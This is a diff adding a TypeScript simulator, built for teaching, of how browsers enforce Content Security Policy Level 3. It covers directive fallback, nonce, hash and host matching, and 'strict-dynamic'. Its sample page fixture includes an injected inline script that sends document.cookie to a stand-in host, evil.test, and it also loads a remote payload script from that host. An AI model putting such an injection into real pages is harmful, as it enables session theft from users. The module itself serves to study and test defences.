@@ -0,0 +1,259 @@
+import { isNonceOrHash, parseCsp, type CspDirective } from "@/lib/csp";
+
+/**
+ * CSP enforcement simulator
+ *
+ * EDUCATIONAL NOTE:
+ * This reproduces the checks a browser runs before loading each resource
+ * of a page (CSP Level 3): find the directive that governs the resource,
+ * following its fallback chain, then match the URL, nonce or content hash
+ * against that directive's sources. Three rules surprise most people:
+ * - a nonce or hash in the list switches 'unsafe-inline' off
+ * - inline event handlers (onclick=...) can never use a nonce
+ * - with 'strict-dynamic', host allowlists are ignored, and a script loaded
+ *   by an already trusted script is trusted too
+ */
+
+export type PageResourceKind =
+  | "inline-script"
+  | "external-script"
+  | "event-handler"
+  | "eval"
+  | "inline-style"
+  | "external-style"
+  | "image"
+  | "frame";
+
+export interface PageResource {
+  id: string;
+  kind: PageResourceKind;
+  /** URL for external resources, source code for inline ones */
+  value: string;
+  nonce?: string;
+  /** Id of the script that creates this one with document.createElement */
+  loadedBy?: string;
+}
+
+export interface ResourceVerdict {
+  resource: PageResource;
+  allowed: boolean;
+  /** The directive whose sources decided, after fallback; null when nothing applies */
+  directive: string | null;
+  reason: string;
+  /** The hash source that would allow a blocked inline resource */
+  suggestedHash?: string;
+}
+
+export const PAGE_ORIGIN = "https://app.secureshield.test";
+
+export const RESOURCE_KINDS: Array<{ id: PageResourceKind; label: string; inline: boolean }> = [
+  { id: "inline-script", label: "Script inline", inline: true },
+  { id: "external-script", label: "Script esterno", inline: false },
+  { id: "event-handler", label: "Event handler", inline: true },
+  { id: "eval", label: "eval()", inline: true },
+  { id: "inline-style", label: "Stile inline", inline: true },
+  { id: "external-style", label: "Foglio di stile", inline: false },
+  { id: "image", label: "Immagine", inline: false },
+  { id: "frame", label: "Iframe", inline: false },
+];
+
+export const SAMPLE_PAGE: PageResource[] = [
+  { id: "app", kind: "external-script", value: `${PAGE_ORIGIN}/assets/app.js`, nonce: "r4nd0m" },
+  { id: "loader", kind: "external-script", value: "https://www.googletagmanager.com/gtm.js", nonce: "r4nd0m" },
+  { id: "analytics", kind: "external-script", value: "https://www.google-analytics.com/analytics.js", loadedBy: "loader" },
+  { id: "config", kind: "inline-script", value: "window.APP_CONFIG = { locale: 'it' };", nonce: "r4nd0m" },
+  { id: "injected", kind: "inline-script", value: "fetch('//evil.test/?c=' + document.cookie)" },
+  { id: "cdn", kind: "external-script", value: "https://cdn.jsdelivr.net/npm/lodash/lodash.min.js" },
+  { id: "evil", kind: "external-script", value: "https://evil.test/payload.js" },
+  { id: "onclick", kind: "event-handler", value: "alert(1)" },
+  { id: "template", kind: "eval", value: "new Function('return ' + expression)" },
+  { id: "theme", kind: "inline-style", value: "body { background: #0b1220; }" },
+  { id: "fonts", kind: "external-style", value: "https://fonts.googleapis.com/css2?family=Inter" },
+  { id: "avatar", kind: "image", value: "https://images.example.com/u/42.png" },
+  { id: "tracker", kind: "image", value: "data:image/gif;base64,R0lGODlhAQABAAAAACw=" },
+  { id: "video", kind: "frame", value: "https://www.youtube.com/embed/dQw4w9WgXcQ" },
+];
+
+/** Directive lookup order per resource kind, most specific first */
+const FALLBACK_CHAINS: Record<PageResourceKind, string[]> = {
+  "inline-script": ["script-src-elem", "script-src", "default-src"],
+  "external-script": ["script-src-elem", "script-src", "default-src"],
+  "event-handler": ["script-src-attr", "script-src", "default-src"],
+  eval: ["script-src", "default-src"],
+  "inline-style": ["style-src-elem", "style-src", "default-src"],
+  "external-style": ["style-src-elem", "style-src", "default-src"],
+  image: ["img-src", "default-src"],
+  frame: ["frame-src", "child-src", "default-src"],
+};
+
+const HASH_ALGORITHMS = [
+  ["sha256", "SHA-256"],
+  ["sha384", "SHA-384"],
+  ["sha512", "SHA-512"],
+] as const;
+
+/** Base64 digest of the UTF-8 content, the format of a CSP hash source */
+async function digest(algorithm: string, content: string): Promise<string> {
+  const bytes = new Uint8Array(await crypto.subtle.digest(algorithm, new TextEncoder().encode(content)));
+  return btoa(String.fromCharCode(...bytes));
+}
+
+/** The 'sha256-...' source that allows exactly this inline content */
+export async function hashSource(content: string): Promise<string> {
+  return `'sha256-${await digest("SHA-256", content)}'`;
+}
+
+const HOST_SOURCE = /^(?:([a-z][a-z0-9+.-]*):\/\/)?(\*\.)?([^/:]+)(?::(\d+|\*))?(\/.*)?$/i;
+
+/** A scheme in the list also allows its secure upgrade: http: matches https: */
+const schemeMatches = (expected: string, actual: string) =>
+  expected === actual || (expected === "http:" && actual === "https:") || (expected === "ws:" && actual === "wss:");
+
+/** Whether a URL matches one host, scheme or keyword source */
+export function urlMatchesSource(url: URL, source: string, self: URL = new URL(PAGE_ORIGIN)): boolean {
+  if (source === "'self'") return url.origin === self.origin;
+  if (source === "*") return ["http:", "https:", "ws:", "wss:"].includes(url.protocol);
+  if (source.startsWith("'")) return false;
+  if (/^[a-z][a-z0-9+.-]*:$/i.test(source)) return schemeMatches(source.toLowerCase(), url.protocol);
+
+  const match = source.match(HOST_SOURCE);
+  if (!match) return false;
+  const [, scheme, wildcard, host, port, path] = match;
+
+  if (!schemeMatches(scheme ? `${scheme.toLowerCase()}:` : self.protocol, url.protocol)) return false;
+  const hostname = url.hostname.toLowerCase();
+  if (host === "*") {
+    if (!wildcard && !scheme && !port && !path) return true;
+  } else if (wildcard ? !hostname.endsWith(`.${host.toLowerCase()}`) : hostname !== host.toLowerCase()) {
+    return false;
+  }
+  if (port !== "*" && (url.port || "") !== (port ?? "")) return false;
+  if (path) return path.endsWith("/") ? url.pathname.startsWith(path) : url.pathname === path;
+  return true;
+}
+
+const governingList = (directives: CspDirective[], kind: PageResourceKind) => {
+  for (const name of FALLBACK_CHAINS[kind]) {
+    const directive = directives.find((d) => d.name === name);
+    if (directive) return directive;
+  }
+  return null;
+};
+
+/**
+ * Runs every resource of the page through the policy, in order, so a
+ * script's verdict is known when the scripts it loads are checked.
+ */
+export async function enforcePolicy(policy: string, page: PageResource[]): Promise<ResourceVerdict[]> {
+  const { directives } = parseCsp(policy);
+  const verdicts: ResourceVerdict[] = [];
+
+  for (const resource of page) {
+    const directive = governingList(directives, resource.kind);
+    const verdict = (allowed: boolean, reason: string, suggestedHash?: string): ResourceVerdict => ({
+      resource,
+      allowed,
+      directive: directive?.name ?? null,
+      reason,
+      ...(suggestedHash ? { suggestedHash } : {}),
+    });
+
+    if (!directive) {
+      verdicts.push(verdict(true, "Nessuna direttiva applicabile: consentito"));
+      continue;
+    }
+
+    const sources = directive.sources;
+    const nonceOrHash = sources.some(isNonceOrHash);
+    const isScript = FALLBACK_CHAINS[resource.kind].includes("script-src");
+    // CSP3: 'strict-dynamic' alone already switches off 'unsafe-inline', 'self' and host sources for scripts
+    const strictDynamic = isScript && sources.includes("'strict-dynamic'");
+    const inlineIgnored = nonceOrHash || strictDynamic;
+    const inlineIgnoredBecause = nonceOrHash ? "la lista contiene nonce o hash" : "la lista contiene 'strict-dynamic'";
+    const nonceMatches = !!resource.nonce && sources.includes(`'nonce-${resource.nonce}'`);
+
+    if (resource.kind === "eval") {
+      verdicts.push(
+        sources.includes("'unsafe-eval'")
+          ? verdict(true, "'unsafe-eval' consente eval() e new Function()")
+          : verdict(false, "Manca 'unsafe-eval': la stringa non viene compilata")
+      );
+      continue;
+    }
+
+    if (resource.kind === "inline-script" || resource.kind === "inline-style" || resource.kind === "event-handler") {
+      const hashes = await Promise.all(
+        HASH_ALGORITHMS.map(async ([prefix, algorithm]) => `'${prefix}-${await digest(algorithm, resource.value)}'`)
+      );
+      const hashMatches = hashes.some((h) => sources.includes(h));
+      const suggestedHash = hashes[0];
+
+      if (resource.kind === "event-handler") {
+        if (hashMatches && sources.includes("'unsafe-hashes'")) {
+          verdicts.push(verdict(true, "Hash dell'handler consentito tramite 'unsafe-hashes'"));
+        } else if (sources.includes("'unsafe-inline'") && !inlineIgnored) {
+          verdicts.push(verdict(true, "'unsafe-inline' consente gli attributi on*"));
+        } else {
+          verdicts.push(
+            verdict(
+              false,
+              inlineIgnored && sources.includes("'unsafe-inline'")
+                ? `'unsafe-inline' è ignorato perché ${inlineIgnoredBecause}; un attributo non può avere un nonce`
+                : "Gli event handler inline richiedono 'unsafe-inline' o 'unsafe-hashes' con il loro hash"
+            )
+          );
+        }
+      } else if (nonceMatches) {
+        verdicts.push(verdict(true, `Nonce ${resource.nonce} corretto`));
+      } else if (hashMatches) {
+        verdicts.push(verdict(true, "L'hash del contenuto è nella lista"));
+      } else if (sources.includes("'unsafe-inline'") && !inlineIgnored) {
+        verdicts.push(verdict(true, "'unsafe-inline' consente il codice inline"));
+      } else {
+        verdicts.push(
+          verdict(
+            false,
+            inlineIgnored && sources.includes("'unsafe-inline'")
+              ? `'unsafe-inline' è ignorato perché ${inlineIgnoredBecause}`
+              : resource.nonce
+                ? `Il nonce ${resource.nonce} non corrisponde`
+                : "Codice inline senza nonce né hash consentito",
+            suggestedHash
+          )
+        );
+      }
+      continue;
+    }
+
+    // External resources
+    if (nonceMatches && (isScript || resource.kind === "external-style")) {
+      verdicts.push(verdict(true, `Nonce ${resource.nonce} corretto`));
+      continue;
+    }
+    if (strictDynamic) {
+      const parent = resource.loadedBy && verdicts.find((v) => v.resource.id === resource.loadedBy);
+      verdicts.push(
+        parent && parent.allowed
+          ? verdict(true, `'strict-dynamic': caricato da ${parent.resource.id}, uno script già fidato`)
+          : verdict(false, "'strict-dynamic' ignora gli host in lista: serve un nonce o uno script fidato che lo carichi")
+      );
+      continue;
+    }
+
+    let url: URL;
+    try {
+      url = new URL(resource.value, PAGE_ORIGIN);
+    } catch {
+      verdicts.push(verdict(false, "URL non valido"));
+      continue;
+    }
+    const matched = sources.find((s) => urlMatchesSource(url, s));
+    verdicts.push(
+      matched
+        ? verdict(true, `Corrisponde alla sorgente ${matched}`)
+        : verdict(false, `${url.origin === "null" ? url.protocol : url.origin} non è tra le sorgenti consentite`)
+    );
+  }
+
+  return verdicts;
+}